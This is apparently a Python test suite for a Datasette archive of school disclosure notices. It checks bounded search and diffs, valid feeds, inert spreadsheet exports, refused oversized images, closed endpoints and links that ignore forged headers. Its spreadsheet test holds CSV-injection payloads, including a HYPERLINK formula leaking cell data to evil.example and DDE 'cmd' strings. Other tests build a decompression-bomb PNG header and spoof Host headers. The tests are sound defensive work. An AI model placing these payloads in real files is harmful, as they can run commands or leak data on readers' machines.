"""Serving is bounded and its outputs cannot be turned against their readers: search and diffs of any size,
feeds that stay XML, inert spreadsheet cells, images in bounded pixels, no contact with the portal, no write
or debug endpoint, links from the configured origin. Each archive is built here, without a crawl."""

import asyncio
import csv
import datetime as dt
import hashlib
import io
import json
import sqlite3
import struct
import time
import zlib

import sqlite_utils
import yaml
from datasette.app import Datasette
from PIL import Image
from test_datasette import ATOM, check_atom

from jiangbei_crawler import store as storage
from jiangbei_crawler.extract.article import parse_article
from jiangbei_crawler.store import search
from jiangbei_crawler.testing import archive_config, asgi_response
from jiangbei_crawler.web import diffs

NOW = dt.datetime.now(dt.UTC).replace(microsecond=0)
PORTAL = "http://portal.example"


def article(aid, title="学校通知", body="学校召开师德建设大会。", **more):
    return {"id": aid, "url": f"{PORTAL}/show.asp?id={aid}", "school": "江北区甲小学", "title": title,
            "category": "校务公开", "category_path": "校务公开", "source": "办公室", "published": NOW.isoformat(),
            "body_text": body, "body_html": f"<p>{body}</p>", "attachments": [], **more}  # fmt: skip


def serve(root, items, plugins=None, later=()):
    """Datasette over an archive of ``items`` (then ``later``, a second crawl's, making versions)."""
    root.mkdir(parents=True, exist_ok=True)
    archive_config(root)
    db = storage.ensure_db_shape(sqlite_utils.Database(memory=True))
    for crawl_id, batch in ((1, items), (2, later)):
        storage.start_crawl(db)
        for item in batch:
            storage.save_article(db, item, crawl_id, now=(NOW - dt.timedelta(days=2 - crawl_id)).isoformat())
    out = sqlite3.connect(root / "disclosure.db")
    db.conn.backup(out)
    out.close()
    if plugins is not None:
        metadata = yaml.safe_load((root / "metadata.yml").read_text())
        (root / "metadata.yml").write_text(yaml.safe_dump({**metadata, "plugins": {"jiangbei": plugins}},
                                                          allow_unicode=True))  # fmt: skip
    return Datasette(config_dir=root)


def get(datasette, path, headers=None, **params):
    return asyncio.run(datasette.client.get(path, params=params or None, headers=headers))


# ---- 3. bounded serving ---------------------------------------------------------------------------------


def test_search_terms_are_distinct_bounded_and_none_inside_another():
    assert search.query_terms(" ".join(["学校"] * 1000)) == ["学校"]
    assert search.query_terms("学 学校 校 学校") == ["学校"]  # 学 and 校 add nothing to 学校
    many = search.query_terms(" ".join(f"词{i:04d}" for i in range(1000)))
    assert len(many) == search.MAX_TERMS and len(search.query_terms("长" * 10000)[0]) == search.MAX_TERM_CHARS
    assert search.fts_query(" ".join(["学校"] * 1000)) == search.fts_query("学校")


def test_a_thousand_term_search_url_answers_within_the_time_limit(tmp_path):
    # Before terms were bounded: 12 s of CPU on these 300 articles, then "SQL query took too long".
    datasette = serve(tmp_path, [article(i, f"学校第{i}号通知", "学校召开师德建设大会。" * 50) for i in range(1, 301)])
    limit = json.loads((tmp_path / "settings.json").read_text())["sql_time_limit_ms"] / 1000
    word = " ".join(["学校"] * 1000)
    raw = " ".join([f'"{search.encode_run("学校")}"'] * 1000)
    one = {r["id"] for r in get(datasette, "/disclosure/search.json", q="学校", _shape="array").json()}
    table = {r["id"] for r in get(datasette, "/disclosure/articles.json", _search="学校", _shape="array",
                                  _size="max").json()}  # fmt: skip
    assert len(one) == 50 and len(table) == 300
    for path, params, want in [
        ("/disclosure/search.json", {"q": word, "_shape": "array"}, one),
        ("/disclosure/search", {"q": word}, None),
        ("/disclosure/articles.json", {"_search": word, "_shape": "array", "_size": "max"}, table),
        ("/disclosure/articles.json", {"_search": raw, "_searchmode": "raw", "_shape": "array"}, set()),
        ("/disclosure/articles", {"_search": word}, None),
        ("/disclosure/feed_new.atom", {"school": word}, None),
    ]:
        start = time.monotonic()
        resp = get(datasette, path, **params)
        assert resp.status_code == 200 and "took too long" not in resp.text, path
        assert time.monotonic() - start < limit, path
        if want is not None:
            assert {r["id"] for r in resp.json()} == want, path


def big_edit():
    """Two versions of a 1,000,000-character paragraph: 400,000 characters in its middle rewritten."""
    base = ("学校召开师德建设大会的通知公示" * 66667)[:1_000_000]
    old = {"title": "通知", "body_text": "开头\n" + base + "\n结尾"}
    new = {"title": "通知", "body_text": "开头\n" + base[:300_000] + "改" * 400_000 + base[700_000:] + "\n结尾"}
    return old, new


def test_a_million_character_paragraph_diff_is_bounded_and_says_it_fell_back():
    old, new = big_edit()
    start = time.monotonic()
    rows = diffs.diff_rows(old, new)
    assert time.monotonic() - start < 2  # 77 s for 300,000 characters before
    changed = [r for r in rows if r["kind"] == "change"]
    assert len(changed) == 1 and changed[0]["coarse"] is True
    inline = str(changed[0]["inline"])
    assert inline.count("<del>") == inline.count("<ins>") == 1 and len(inline) < 2 * 400_000 + 1000
    assert "改" * 400_000 in inline and inline.startswith("…")  # the change whole, its context cut


def test_a_one_character_edit_in_a_million_characters_is_still_marked_alone():
    old, _ = big_edit()
    body = old["body_text"]
    new = {**old, "body_text": body[:500_000] + "X" + body[500_001:]}
    (row,) = [r for r in diffs.diff_rows(old, new) if r["kind"] == "change"]
    inline = str(row["inline"])
    assert not row["coarse"] and f"<del>{body[500_000]}</del><ins>X</ins>" in inline
    assert len(inline) < 1000  # context on either side, not the million characters


def test_the_article_page_of_a_million_character_edit_answers_quickly(tmp_path):
    old, new = big_edit()
    datasette = serve(tmp_path, [article(1, body=old["body_text"])], later=[article(1, body=new["body_text"])])
    get(datasette, "/disclosure/articles/1")  # Datasette's start-up work, not the page's
    start = time.monotonic()
    resp = get(datasette, "/disclosure/articles/1")
    assert resp.status_code == 200 and "改动过长" in resp.text and "v1 → v2" in resp.text
    assert time.monotonic() - start < 5  # the bound is 1 s; this machine is shared and loaded


# ---- 8. outputs that cannot be turned against their readers --------------------------------------------


def test_characters_xml_forbids_never_leave_extraction_and_feeds_stay_valid(tmp_path):
    html = ("<html><head><title>通知&#x1;</title></head><body><h1>师德&#x1;公示&#xFFFF;&#xb;</h1>"
            "<p>来源:办公室&#x2;</p><div class='content'><p>学校&#x1;召开大会&#xFFFE;。</p>"
            "<p>第二段内容较长一些,以便识别为正文。</p></div></body></html>")  # fmt: skip
    page = parse_article(html, f"{PORTAL}/show.asp?id=1")
    fields = [page.title, page.source, *page.body_lines]
    assert page.title == "师德公示" and not any(c in f for f in fields if f for c in "\x01\x02\x0b\ufffe\uffff")
    # an archive written before this rule holds such a title: its feeds are XML all the same
    datasette = serve(tmp_path, [article(1, page.title, "\n".join(page.body_lines)), article(2, "旧\x01标题\ufffe")])
    for feed in ("feed_new", "feed_changed", "feed_removed"):
        resp = get(datasette, f"/disclosure/{feed}.atom")
        assert resp.status_code == 200, feed
        check_atom(resp.content)
    titles = [e.findtext(f"{ATOM}title") for e in check_atom(get(datasette, "/disclosure/feed_new.atom").content)]
    assert "旧标题" in titles and "师德公示" in titles


def cells(datasette, path, **params):
    resp = get(datasette, path, **params)
    if resp.status_code == 302:
        resp = asyncio.run(datasette.client.get(resp.headers["location"]))
    assert resp.status_code == 200, (path, resp.text[:300])
    return [c for row in csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))) for c in row]


def test_spreadsheet_exports_never_hold_a_formula(tmp_path):
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
               "@SUM(1+1)*cmd|' /C calc'!A0"]  # fmt: skip
    datasette = serve(tmp_path, [article(i + 1, title, body=f"{title}\n正文") for i, title in enumerate(hostile)])
    for path, params in [("/disclosure/articles.csv", {"_col": "title"}), ("/disclosure/articles.csv", {}),
                         ("/disclosure/articles.excel", {}), ("/disclosure/latest.csv", {"_dl": "1"}),
                         ("/disclosure/latest.excel", {}), ("/disclosure/articles/1.csv", {})]:  # fmt: skip
        found = cells(datasette, path, **params)
        assert not [c for c in found if c and c[0] in "=+-@" and not search_number(c)], path
        assert "'" + hostile[0] in found, path


def search_number(cell):
    try:
        float(cell)
        return True
    except ValueError:
        return False


def png_header(width, height):
    """A PNG that says it is width x height: its header, then one small compressed chunk of pixels."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def image(root, url, data):
    sha = hashlib.sha256(data).hexdigest()
    rel = storage.store_file(str(root / storage.FILES_DIR), data, sha)
    return {"url": url, "sha256": sha, "file": rel, "content_type": "image/png", "size": len(data)}


def small_png():
    buf = io.BytesIO()
    Image.new("RGB", (4, 3), "red").save(buf, "PNG")
    return buf.getvalue()


def test_an_image_past_the_pixel_bound_is_never_served_inline(tmp_path):
    # 2.5 gigapixels (past Pillow's own bomb limit) and 60 megapixels (past ours, under Pillow's)
    bomb = image(tmp_path, f"{PORTAL}/huge.png", png_header(50_000, 50_000))
    large = image(tmp_path, f"{PORTAL}/large.png", png_header(10_000, 6_000))
    fine = image(tmp_path, f"{PORTAL}/fine.png", small_png())
    datasette = serve(tmp_path, [article(1, images=[bomb, large, fine])])
    for refused in (bomb, large):
        resp = get(datasette, f"/-/image/{refused['sha256']}")
        assert resp.headers["content-type"].startswith("image/svg+xml") and b"IHDR" not in resp.content
        assert "图片过大" in resp.text
    assert "10,000×6,000" in get(datasette, f"/-/image/{large['sha256']}").text
    served = get(datasette, f"/-/image/{fine['sha256']}")
    assert served.headers["content-type"] == "image/png" and served.content == small_png()


def test_pages_never_make_a_readers_browser_contact_the_portal(tmp_path):
    kept = image(tmp_path, f"{PORTAL}/kept.png", small_png())
    body = (f'<p>图一<img src="{PORTAL}/kept.png">图二<img alt="x" src="{PORTAL}/refused.png?a=1&amp;b=2">'
            f'图三<img src="http://elsewhere.example/offsite.png"></p>')  # fmt: skip
    refused = {"url": f"{PORTAL}/refused.png?a=1&b=2", "error": "too large", "content_type": "image/png"}
    datasette = serve(tmp_path, [article(1, body_html=body, images=[kept, refused])])
    resp = get(datasette, "/disclosure/articles/1")
    page = resp.text.split('class="body">')[1].split("</div>")[0]
    assert f'src="/-/image/{kept["sha256"]}"' in page
    assert "src=" not in page.replace(f'src="/-/image/{kept["sha256"]}"', "")
    assert f"{PORTAL}/refused.png?a=1&amp;b=2" in page and "http://elsewhere.example/offsite.png" in page
    for path in (
        "/",
        "/disclosure/articles/1",
        "/disclosure/articles",
        "/disclosure/search",
        f"/-/image/{kept['sha256']}",
    ):
        policy = get(datasette, path).headers.get("content-security-policy", "")
        assert "img-src 'self' data:" in policy and "default-src 'self'" in policy and "http" not in policy, path


CLOSED = [("POST", "/disclosure/articles/-/insert"), ("POST", "/-/insert"), ("POST", "/disclosure/-/create"),
          ("GET", "/disclosure/-/create"), ("POST", "/disclosure/articles/1/-/delete"),
          ("POST", "/disclosure/articles/1/-/update"), ("POST", "/disclosure/articles/-/drop"),
          ("POST", "/disclosure/articles/-/upsert"), ("GET", "/-/permissions"), ("POST", "/-/permissions"),
          ("GET", "/-/actor.json"), ("GET", "/-/allow-debug"), ("GET", "/-/messages"), ("POST", "/-/messages"),
          ("GET", "/-/databases.json"), ("GET", "/-/threads.json"), ("GET", "/-/create-token"),
          ("GET", "/-/auth-token"), ("POST", "/disclosure/search"), ("PUT", "/disclosure/articles"),
          ("DELETE", "/disclosure/articles/1"), ("GET", "/disclosure.db")]  # fmt: skip


def test_write_and_debug_endpoints_answer_403_or_404_and_no_page_shows_a_path(tmp_path):
    datasette = serve(tmp_path, [article(1)])
    for method, path in CLOSED:
        resp = asyncio.run(datasette.client.request(method, path))
        assert resp.status_code in (403, 404, 405), (method, path, resp.status_code)
        assert "Traceback" not in resp.text and str(tmp_path) not in resp.text, (method, path)
    assert sqlite3.connect(tmp_path / "disclosure.db").execute("select count(*) from articles").fetchone() == (1,)
    for path in ("/", "/.json", "/disclosure", "/disclosure.json", "/disclosure/articles.json", "/-/settings.json",
                 "/disclosure/articles/1", "/disclosure/articles/1.json", "/-/versions.json", "/-/plugins.json"):  # fmt: skip
        assert str(tmp_path) not in get(datasette, path).text, path


def links(datasette, path, headers=None):
    resp = get(datasette, path, headers=headers)
    assert resp.status_code == 200
    return resp.text


FORGED = {"host": "evil.example", "x-forwarded-proto": "https", "x-forwarded-host": "evil.example"}


def test_feed_and_citation_links_come_from_the_configured_origin_never_from_headers(tmp_path):
    plain = serve(tmp_path / "plain", [article(1)], later=[article(1, "学校通知(更正)")])
    configured = serve(tmp_path / "configured", [article(1)], plugins={"base_url": "https://archive.example.org"})
    for path in ("/disclosure/feed_new.atom", "/disclosure/feed_changed.atom", "/disclosure/articles/1", "/"):
        forged = links(plain, path, headers=FORGED)
        assert "evil.example" not in forged and "https://localhost" not in forged, path
    assert "http://localhost/disclosure/article_versions/1,2" in links(plain, "/disclosure/articles/1", FORGED)
    for path in ("/disclosure/feed_new.atom", "/disclosure/articles/1"):
        page = links(configured, path, headers=FORGED)
        assert "https://archive.example.org/disclosure/" in page and "evil.example" not in page, path
        assert "localhost" not in page, path


def test_a_streamed_csv_is_made_inert_whole_records_at_a_time():
    from jiangbei_crawler.web import plugin as datasette_plugin

    rows = [["id", "title"], ["1", '=HYPERLINK("x","a\r\nb, c")'], ["2", "text\n=not a cell start"], ["3", "-1"],
            ["4", "@x"], ["5", "+\"q\""]]  # fmt: skip
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    raw = buf.getvalue().encode()
    want = [r if r[1] in ("title", "-1") or r[1].startswith("text") else [r[0], "'" + r[1]] for r in rows]

    for size in (1, 3, 7, 16, len(raw)):
        body = streamed(datasette_plugin.csv_for_excel, [raw[i : i + size] for i in range(0, len(raw), size)])
        assert list(csv.reader(io.StringIO(body.decode(), newline=""))) == want, size


def streamed(wrapper, chunks):
    """The body a client receives of a text/csv response sent in ``chunks`` through an ASGI ``wrapper``."""
    return asgi_response(wrapper, chunks, [(b"content-type", b"text/csv")])[1]


def test_a_disclosure_metadata_table_is_kept_and_shown_on_the_article_page(tmp_path):
    pairs = {"索引号": "11330205/2024-00012", "发布机构": "江北区教育局", "文号": "甬北教〔2024〕5号"}
    datasette = serve(tmp_path / "archive", [article(1, metadata=pairs), article(2)])
    stored = sqlite3.connect(tmp_path / "archive" / "disclosure.db").execute(
        "select id, metadata from articles order by id"
    )
    assert [(i, json.loads(m) if m else None) for i, m in stored] == [(1, pairs), (2, None)]
    html = get(datasette, "/disclosure/articles/1").text
    assert '<table class="metadata">' in html
    for label, value in pairs.items():
        assert f"<th>{label}</th><td>{value}</td>" in html
    assert '<table class="metadata">' not in get(datasette, "/disclosure/articles/2").text
